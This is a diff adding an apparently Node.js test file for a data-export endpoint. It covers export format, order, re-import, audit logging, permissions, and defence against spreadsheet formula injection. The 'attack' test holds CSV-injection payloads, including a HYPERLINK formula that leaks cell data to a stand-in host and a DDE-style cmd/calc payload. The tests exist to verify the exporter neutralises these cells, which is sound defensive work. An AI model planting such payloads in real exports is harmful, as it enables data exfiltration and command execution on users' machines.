@@ -1,0 +1,84 @@
+/** A list as a file: its rights, its order, its moment, and what spreadsheets would run. */
+import assert from 'node:assert/strict'
+import { readdirSync } from 'node:fs'
+import { join } from 'node:path'
+import { it } from 'node:test'
+import { newPerson } from '../support/cast.ts'
+import { startService, type ApiResponse } from '../support/service/service.ts'
+
+const PATH = '/api/v1/data/export'
+
+it('an export has the filter and the order of its list, can be imported again, and is recorded', async (t) => {
+  const service = await startService(t)
+  const { token, id: admin } = await service.admin()
+  const rows = [['b', 'active'], ['=1+1', 'active'], ['a,"\n', 'active'], ['c', 'draft']]
+  for (const [name, status] of rows) {
+    const body = { name, description: 'd', iconUrl: 'https://images.example/t.png', status }
+    assert.equal((await service.data('POST', '', { model: 'topic' }, { token, body })).status, 201)
+  }
+  const get = (body: object, by = token): Promise<Response> =>
+    fetch(service.url + PATH, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${by}` },
+      body: JSON.stringify({ model: 'topic', filter: { status: 'active' }, sort: 'name:desc', ...body }),
+    })
+  const lines = await get({ format: 'ndjson' })
+  assert.equal(lines.headers.get('content-disposition'), 'attachment; filename="topic.ndjson"')
+  const documents = (await lines.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as { name: string })
+  assert.deepEqual(documents.map(({ name }) => name), ['b', 'a,"\n', '=1+1'])
+  const csv = await (await get({ format: 'csv' })).text()
+  assert.match(csv, /^id,name,description,/)
+  assert.ok(csv.includes(",'=1+1,") && csv.includes(',"a,""\n",'), csv)
+  const again = await service.call('POST', '/api/v1/admin/import', { token, body: { model: 'topic', format: 'csv', rows: csv, hasHeader: true, keep: true } })
+  assert.deepEqual([again.at('data.unchanged'), again.at('data.rejected')], [3, []])
+  assert.equal(await (await get({ format: 'ndjson', filter: { status: 'nothing' } })).text(), '')
+  assert.match(await (await get({ format: 'ndjson', filter: null, sort: null, search: 'c' })).text(), /^\{"id":"\w+","name":"c"[^\n]*\n$/)
+  assert.deepEqual(readdirSync(join(service.directory, 'data')).filter((name) => name.includes('export')), [])
+  const trail = await service.call('GET', '/api/v1/admin/audit', { token })
+  const [record] = trail.at('data.items') as Record<string, unknown>[]
+  assert.deepEqual([record?.['event'], record?.['actor'], record?.['model']], ['documents.exported', admin, 'topic'])
+
+  const publisher = await newPerson(service, 'publisher', token)
+  assert.equal((await get({ format: 'csv', model: 'headline', sort: null, filter: null }, publisher.token)).status, 200)
+  const guest = await newPerson(service, 'guest', token)
+  const narrow = await service.call('POST', '/api/v1/admin/tokens', { token, body: { name: 't', role: 'publisher', models: ['topic'] } })
+  for (const [by, body, status] of [
+    [publisher.token, { model: 'user' }, 403],
+    [publisher.token, { model: 'user_content_preferences' }, 403],
+    [guest.token, {}, 403],
+    [String(narrow.at('data.token')), {}, 403],
+    ['', {}, 401],
+    [token, { model: 'audit' }, 400],
+    [token, { model: 'dashboard_summary' }, 400],
+    [token, { format: 'xlsx' }, 400],
+    [token, { filter: { $where: '1' } }, 400],
+    [token, { sort: ':::' }, 400],
+  ] as const) {
+    assert.equal((await get({ format: 'csv', ...body }, by)).status, status, JSON.stringify(body))
+  }
+})
+
+it('attack: cells that a spreadsheet would run leave as text, and come back as they were, twice too', async (t) => {
+  const service = await startService(t)
+  const { token } = await service.admin()
+  const hostile = ['=HYPERLINK("https://evil.example?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=1+1", "''=1"]
+  const line = (name: string): string => JSON.stringify({ name, description: name, iconUrl: 'https://images.example/t.png', status: 'active' })
+  const send = (format: string, rows: string): Promise<ApiResponse> =>
+    service.call('POST', '/api/v1/admin/import', { token, body: { model: 'topic', format, rows, keep: true, ...(format === 'csv' ? { hasHeader: true } : {}) } })
+  const exported = async (): Promise<string> => {
+    const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }
+    const response = await fetch(service.url + PATH, { method: 'POST', headers, body: JSON.stringify({ model: 'topic', format: 'csv', sort: 'name:asc' }) })
+    return response.text()
+  }
+  assert.equal((await send('ndjson', hostile.map(line).join('\n'))).at('data.inserted'), hostile.length)
+  const csv = await exported()
+  assert.doesNotMatch(csv, /(?:^|\n|,)"?(?:[=+@\t-]|\r(?!\n))/)
+  const again = await send('csv', csv)
+  assert.deepEqual([again.at('data.unchanged'), again.at('data.rejected')], [hostile.length, []])
+  // As a spreadsheet that was opened and saved: without ids, so that each row is a new document.
+  const copies = await send('csv', csv.replaceAll(/^\w{24},/gm, ','))
+  assert.deepEqual([copies.at('data.inserted'), copies.at('data.rejected')], [hostile.length, []])
+  const { at } = await service.data('GET', '', { model: 'topic', limit: 100, sort: 'name:asc' }, { token })
+  const names = (at('data.items') as { readonly name: string }[]).map(({ name }) => name)
+  assert.deepEqual(names.toSorted(), [...hostile, ...hostile].toSorted())
+})
